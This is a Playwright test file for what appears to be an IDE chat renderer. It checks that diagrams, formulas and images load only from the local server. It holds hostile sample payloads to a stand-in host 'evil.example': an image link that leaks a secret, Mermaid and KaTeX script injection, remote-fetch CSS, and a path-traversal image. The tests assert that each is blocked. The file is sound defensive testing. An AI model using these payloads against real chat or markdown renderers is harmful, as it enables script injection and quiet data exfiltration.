import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Page } from '@playwright/test';
import { expect, test } from './support/test';

// What is fetched when, and what is not.
test.use({ freshPage: true });

/** A picture of one red pixel. */
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC';

/** Requests that leave the page's own server. */
function watchRequests(page: Page, own: string): string[] {
    const foreign: string[] = [];
    page.on('request', request => {
        const url = request.url();
        if (!url.startsWith(own) && !/^(?:data|blob):/.test(url)) {
            foreign.push(url);
        }
    });
    return foreign;
}

test('draws diagrams, sets formulas and shows pictures, all from here', async ({ ide, chat, page }) => {
    const foreign = watchRequests(page, ide.url);
    writeFileSync(join(ide.workspace, 'red.png'), Buffer.from(PIXEL, 'base64'));
    const scripts: string[] = [];
    page.on('request', request => request.url().endsWith('.js') && scripts.push(request.url()));
    chat.script([
        { when: { lastUser: 'plain' }, reply: [{ text: 'It costs $5 or $10.' }] },
        {
            reply: [{
                text: [
                    '```mermaid\ngraph TD\n  A[Start] --> B{Choice}\n  B -->|yes| C[End]\n```',
                    'Euler: $e^{i\\pi} + 1 = 0$, it costs $5 or $10, and \\(a^2\\).\n\n$$\\int_0^1 x^2 dx$$',
                    `![own](red.png) ![inline](data:image/png;base64,${PIXEL}) ![remote](https://evil.example/p.png?q=secret)`,
                    'See [slide three](deck:intro#3), [page four](scroll:intro#4) and `$x$`.'
                ].join('\n\n'),
                chunkSize: 40
            }]
        }
    ]);
    await chat.ask('plain, please');
    const before = scripts.length;
    expect(scripts.filter(url => /mermaid|katex/i.test(url))).toEqual([]);
    await chat.ask('everything');
    const reply = chat.replies.last();
    await expect(reply.getByTestId('diagram').locator('svg')).toContainText('Choice');
    expect(scripts.length).toBeGreaterThan(before);
    await expect(reply.locator('math')).toHaveCount(3);
    await expect(reply).toContainText('it costs $5 or $10');
    await expect(reply.locator('code', { hasText: '$x$' })).toBeVisible();
    await expect(reply.locator('img[alt="own"]')).toHaveJSProperty('naturalWidth', 1);
    await expect(reply.locator('img[alt="inline"]')).toHaveJSProperty('naturalWidth', 1);
    await expect(reply.locator('img')).toHaveCount(2);
    await expect(reply).toContainText('remote (https://evil.example/p.png?q=secret)');

    await reply.getByTestId('diagram').getByRole('button', { name: 'Show the source' }).click();
    await expect(reply.getByTestId('diagram')).toContainText('graph TD');
    await expect(reply.locator('a', { hasText: 'slide three' })).toHaveAttribute('href');
    // Nothing here shows scrolls, so nothing pretends to lead to one.
    await expect(reply.locator('a', { hasText: 'page four' })).not.toHaveAttribute('href');
    expect(foreign).toEqual([]);
});

test('attack 14: neither runs nor fetches anything of hostile diagrams, formulas and pictures', async ({ ide, chat, page }) => {
    const foreign = watchRequests(page, ide.url);
    const evil = 'https://evil.example';
    chat.script([{
        reply: [{
            text: [
                `\`\`\`mermaid\ngraph TD\n  A@{ img: "${evil}/a.png", label: "x" }\n\`\`\``,
                `\`\`\`mermaid\n%%{init: {"themeCSS": "* { background: url(${evil}/b.png) }", `
                    + `"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A --> B\n\`\`\``,
                `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=window.hacked=1>"] --> B\n`
                    + `  click A href "javascript:window.hacked=1"\n\`\`\``,
                `\`\`\`mermaid\ngraph TD\n  A --> B\n  style A fill:url(${evil}/c.svg)\n\`\`\``,
                '```mermaid\n%%{init: {"securityLevel": "loose", "fontFamily": "x"}}%%\n'
                    + 'graph LR\n  Q[harmless text] --> W["`**bold**`"]\n```',
                '```mermaid\nthis is no diagram at all\n```',
                `$\\href{javascript:window.hacked=1}{x}$ $\\includegraphics{${evil}/d.png}$ `
                    + `$\\htmlStyle{background:url(${evil}/e.png)}{y}$ $$\\def\\a{\\a\\a}\\a$$`,
                `![x](${evil}/f.png) ![y](//evil.example/g.png) ![z](data:image/svg+xml;base64,PHN2Zy8+) ![w](../../etc/passwd.png) `
                    + `<img src="${evil}/h.png">`,
                'The end'
            ].join('\n\n')
        }]
    }]);
    await chat.ask('be evil');
    const reply = chat.replies.last();
    await expect(reply).toContainText('The end');
    // The one diagram that asks for nothing is drawn, with its wishes for less safety ignored.
    await expect(reply.getByTestId('diagram')).toHaveCount(1);
    await expect(reply.getByTestId('diagram').locator('svg')).toContainText('harmless text');
    await expect(reply.getByTestId('diagram').locator('foreignObject, a, image, script')).toHaveCount(0);
    await expect(reply.locator('.openspace-code')).toHaveCount(5);
    await expect(reply.locator('math a, math [href]')).toHaveCount(0);
    await expect(reply.locator('img')).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
    expect(foreign).toEqual([]);
});
